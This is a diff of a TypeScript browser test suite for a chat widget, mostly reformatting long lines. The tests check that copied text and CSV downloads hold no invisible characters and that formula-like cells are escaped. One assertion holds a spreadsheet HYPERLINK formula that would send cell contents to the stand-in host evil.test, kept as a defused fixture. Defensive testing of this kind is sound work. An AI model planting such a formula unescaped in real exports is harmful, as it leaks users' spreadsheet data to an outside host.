@@ -29,7 +29,8 @@ async function hostileReply(mode: 'floating' | 'inline' = 'floating'): Promise<W
   return wp;
 }
 
-const clipboard = (wp: WidgetPage) => wp.page.evaluate(() => (window as unknown as { __swClipboard: string[] }).__swClipboard.slice());
+const clipboard = (wp: WidgetPage) =>
+  wp.page.evaluate(() => (window as unknown as { __swClipboard: string[] }).__swClipboard.slice());
 const downloads = (wp: WidgetPage) =>
   wp.page.evaluate(() => (window as unknown as { __swDownloads: { bytes: number[] | null }[] }).__swDownloads.slice());
 const click = async (l: Locator) => {
@@ -37,7 +38,10 @@ const click = async (l: Locator) => {
   await l.click();
 };
 /** The fields of a CSV (RFC 4180, as the widget writes it). */
-const csvFields = (csv: string) => [...csv.matchAll(/(?:^|,|\r\n)("(?:[^"]|"")*"|[^,\r\n]*)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replace(/""/g, '"'));
+const csvFields = (csv: string) =>
+  [...csv.matchAll(/(?:^|,|\r\n)("(?:[^"]|"")*"|[^,\r\n]*)/g)].map((m) =>
+    m[1]!.replace(/^"|"$/g, '').replace(/""/g, '"'),
+  );
 
 describe('copies and downloads', () => {
   it('hold no invisible character and no formula; the code copied is the code shown', async () => {
@@ -53,7 +57,9 @@ describe('copies and downloads', () => {
     await expect.poll(async () => (await downloads(wp))[0]?.bytes != null).toBe(true);
 
     const [answer, code, tsv] = await clipboard(wp);
-    const csv = Buffer.from((await downloads(wp))[0]!.bytes!).subarray(3).toString('utf8');
+    const csv = Buffer.from((await downloads(wp))[0]!.bytes!)
+      .subarray(3)
+      .toString('utf8');
     for (const text of [answer!, code!, tsv!, csv]) expect(text).not.toMatch(INVISIBLE);
     expect(answer).toContain('Revenue by store:');
 
@@ -72,7 +78,7 @@ describe('copies and downloads', () => {
     const fields = csvFields(csv);
     expect(fields.filter(runs)).toEqual([]);
     expect(fields.filter((f) => f.startsWith("'"))).toHaveLength(5);
-    expect(fields).toContain("'=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")");
+    expect(fields).toContain('\'=HYPERLINK("http://evil.test/?"&A1,"x")');
     expect(fields).toContain("'\t=1+1"); // the tab kept, behind the quote
     expect(await wp.pageErrors()).toEqual([]);
   });
@@ -113,7 +119,13 @@ describe('a table behind its chart', () => {
     // The table back: its links and sort buttons are tab stops again.
     await click(chartButton);
     await expect
-      .poll(() => stores.locator('.table-scroll').evaluate((el) => [...el.querySelectorAll('a, button')].filter((e) => (e as HTMLElement).tabIndex < 0).length))
+      .poll(() =>
+        stores
+          .locator('.table-scroll')
+          .evaluate(
+            (el) => [...el.querySelectorAll('a, button')].filter((e) => (e as HTMLElement).tabIndex < 0).length,
+          ),
+      )
       .toBe(0);
   });
 });
@@ -148,7 +160,10 @@ for (const mode of ['floating', 'inline'] as const) {
         expect(await frameScroll(wp)).toBe(0);
       }
       // Focus put on a hidden table's link by a script (no Tab reaches it) still moves nothing.
-      await stores.locator('td a').last().evaluate((el) => (el as HTMLElement).focus());
+      await stores
+        .locator('td a')
+        .last()
+        .evaluate((el) => (el as HTMLElement).focus());
       expect(await frameScroll(wp)).toBe(0);
       expect(await wp.pageErrors()).toEqual([]);
     });
